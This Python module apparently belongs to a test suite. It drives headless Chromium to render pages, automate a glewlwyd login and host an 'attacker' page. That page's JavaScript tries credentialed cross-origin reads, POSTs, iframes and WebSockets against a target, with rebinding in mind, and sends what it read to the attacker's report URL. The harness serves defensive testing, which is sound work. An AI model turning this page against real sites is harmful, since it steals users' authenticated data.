"""Headless Chromium, each time with a new profile: shows pages, attacks, and logs in to glewlwyd, driven by the DevTools protocol."""
import contextlib
import json
import os
import re
import shlex
import subprocess
import tempfile
import time
import urllib.parse

from .bodies import eventually
from .scripted import ScriptedServer, response
from .servers import find
from .waiting import ended, is_ready, output

#: Without the requests that a browser sends by itself, as far as Chromium has options for that. Root cannot use its sandbox.
OPTIONS = ["--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--disable-background-networking",
           "--disable-component-update", "--disable-extensions", "--disable-sync", "--no-first-run"]
#: Makes Chromium print the document after 10 s of a clock that stands still while a request runs, and otherwise runs fast.
PRINTING = ["--virtual-time-budget=10000", "--dump-dom"]

#: A page whose title is replaced by what its script fetches from `page.txt`.
PAGE = """<title>waiting</title>
<script>fetch("page.txt").then(answer => answer.text()).then(text => { document.title = text })</script>
"""


def command(url, profile, *options, more=PRINTING):
    """Returns a shell command that prints the document of `url`. In `options`, the shell replaces variables."""
    words = [find("chromium"), *OPTIONS, *more, f"--user-data-dir={profile}"]
    return " ".join([*map(shlex.quote, words), *(f'"{option}"' for option in options), shlex.quote(url)])


def through_front(url, profile):
    """Returns a shell command for `watchword run`: the user information of a proxy's URL would make Chromium ignore it, and
    without the second option it would reach this machine directly."""
    return command(url, profile, "--proxy-server=${http_proxy##*@}", "--proxy-bypass-list=<-loopback>")


def show(url, *options, seconds=60):
    with tempfile.TemporaryDirectory() as profile:
        return output("sh", "-c", command(url, profile, *options), timeout=seconds, env={"PATH": "/usr/bin:/bin", "HOME": profile})


def title(document):
    found = re.search(r"<title>(.*?)</title>", document, re.DOTALL)
    return found and found[1].strip()


#: What a page of an attacker tries at the URL TARGET. It sends the results to REPORT: a word for each, with the text that it read.
ATTACK = """<body><script>
const target = "TARGET"
const loaded = (kind, url) => new Promise(resolve => {
  const element = document.createElement(kind)
  element.onload = element.onerror = event => resolve(event.type)
  element.src = url
  document.body.append(element)
})
const attempts = {
  simple: () => fetch(target + "simple", { mode: "no-cors" }),
  read: async () => {  // The browser may have opened several connections to this server before the name was rebound.
    let result
    do result = await fetch(target + "read", { credentials: "include" }); while (result.headers.has("X-Attacker"))
    return result
  },
  post: () => fetch(target + "post", { mode: "no-cors", method: "POST", body: "text" }),
  preflight: () => fetch(target + "preflight", { method: "PUT", headers: { "X-Field": "value" } }),
  image: () => loaded("img", target + "image"),
  frame: () => loaded("iframe", target + "frame"),
  socket: () => new Promise(resolve => {
    const socket = new WebSocket(target.replace("http", "ws") + "socket")
    socket.onopen = socket.onerror = event => resolve(event.type)
  }),
}
const attack = async names => {
  const results = []
  for (const name of names) {
    try {
      const result = await attempts[name]()
      results.push(name + "=" + (typeof result == "string" ? result : result.type + (result.status || "") + (await result.text())))
    } catch { results.push(name + "=failed") }
  }
  fetch("REPORT", { mode: "no-cors", method: "POST", body: results.join(" ") })
}
attack(NAMES)
</script>"""


class Attacker(ScriptedServer):
    """A web server whose page tries these `attempts` at `target`."""

    def __init__(self, target, *names):
        super().__init__(lambda request: self.answer(request))
        self.reports = []
        report = self.url + "/report"
        self.page = ATTACK.replace("TARGET", target).replace("REPORT", report).replace("NAMES", repr(list(names))).encode()

    def answer(self, request):
        if request.target == "/report":
            self.reports.append(request.body.decode())
        body = b"" if request.method == "POST" else self.page
        return response(200, body, "Content-Type: text/html", "Connection: close", "X-Attacker: yes")

    def attack(self, url, *options):
        """Visits the page at `url` with Chromium; returns its report."""
        number = len(self.reports)
        # Other processes of Chromium may still write to it when the first has ended.
        with tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as profile, subprocess.Popen(
                ["sh", "-c", "exec " + command(url, profile, *options, more=[])], stdin=subprocess.DEVNULL,
                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, env={"PATH": "/usr/bin:/bin", "HOME": profile}) as process:
            try:
                return eventually(lambda: self.reports[number:], "the page has reported", seconds=60)[0]
            finally:
                process.terminate()


#: One step of the login page: returns what to do, after clicking what can be clicked.
STEP = """(() => {
  const username = document.getElementById("username")
  if (username) return "credentials"
  for (const box of document.querySelectorAll("input[id^=grant-]")) if (!box.checked) box.click()
  const buttons = [...document.querySelectorAll("button")].filter(button => button.offsetParent)
  for (const text of ["Grant access", "Continue"]) {
    const found = buttons.find(button => button.innerText.trim() == text)
    if (found) { found.click(); return text }
  }
  return "waiting"
})()"""


class ProtocolError(Exception):
    pass


class Chromium:
    def __init__(self, profile, *options):
        # Chromium reads commands from descriptor 3 and writes to 4: NUL-terminated JSON.
        (its_input, self._output), (self._input, its_output) = os.pipe(), os.pipe()
        script = f'exec {{a}}<&{its_input} {{b}}>&{its_output}; exec "$@" 3<&$a 4>&$b {{a}}<&- {{b}}>&-'
        words = [find("chromium"), *OPTIONS, *options, "--remote-debugging-pipe", f"--user-data-dir={profile}", "about:blank"]
        self.process = subprocess.Popen(
            ["bash", "-c", script, "bash", *words], pass_fds=[its_input, its_output], stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, env={"PATH": "/usr/bin:/bin", "HOME": str(profile)})
        os.close(its_input)
        os.close(its_output)
        self._buffer, self._number, self._session = b"", 0, None
        with contextlib.ExitStack() as stack:
            stack.callback(self.close)
            target = self.call("Target.createTarget", url="about:blank")["targetId"]
            self._session = self.call("Target.attachToTarget", targetId=target, flatten=True)["sessionId"]
            stack.pop_all()

    def call(self, method, **params):
        self._number += 1
        message = {"id": self._number, "method": method, "params": params, **({"sessionId": self._session} if self._session else {})}
        os.write(self._output, json.dumps(message).encode() + b"\0")
        while True:
            while b"\0" not in self._buffer:
                assert is_ready(self._input, 30), f"no answer to {method} within 30 s"
                data = os.read(self._input, 1 << 16)
                assert data, "Chromium has ended"
                self._buffer += data
            text, _, self._buffer = self._buffer.partition(b"\0")
            reply = json.loads(text)
            if reply.get("id") == self._number:
                if "error" in reply:
                    raise ProtocolError(reply["error"])
                return reply["result"]

    def evaluate(self, script):
        """Returns the value of a script in the page, or None while the page changes."""
        try:
            return self.call("Runtime.evaluate", expression=script, returnByValue=True)["result"].get("value")
        except ProtocolError:
            return None

    def type_into(self, element, text):
        self.evaluate(f"(element => {{ element.focus(); element.select() }})(document.getElementById({json.dumps(element)}))")
        self.call("Input.insertText", text=text)

    def close(self):
        ended(self.process)
        os.close(self._input)
        os.close(self._output)


def log_in(server, url, *options, seconds=40):
    """Opens `url`, which leads to glewlwyd, logs in there as its user, and grants everything; returns the URL and the text of the
    page at the end, which is the program's, or glewlwyd's about a completed device."""
    origin, been_there, end = urllib.parse.urlsplit(server.url).netloc, False, time.monotonic() + seconds
    with tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as profile, contextlib.closing(Chromium(profile, *options)) as browser:
        browser.call("Page.navigate", url=url)
        while True:
            current = browser.evaluate("location.href") or ""
            is_there = urllib.parse.urlsplit(current).netloc == origin
            been_there |= is_there
            done = "prompt=deviceComplete" in current if is_there else been_there and current.startswith("http")
            if done and browser.evaluate("document.readyState") == "complete":
                return current, browser.evaluate("document.body.innerText")
            assert time.monotonic() < end, f"the login is stuck at {current}: {browser.evaluate('document.body.innerText')!r}"
            if is_there and not done and browser.evaluate(STEP) == "credentials":
                browser.type_into("username", server.USER)
                browser.type_into("password", server.PASSWORD)
                browser.evaluate("document.getElementById('loginbut').click()")
            time.sleep(0.2)
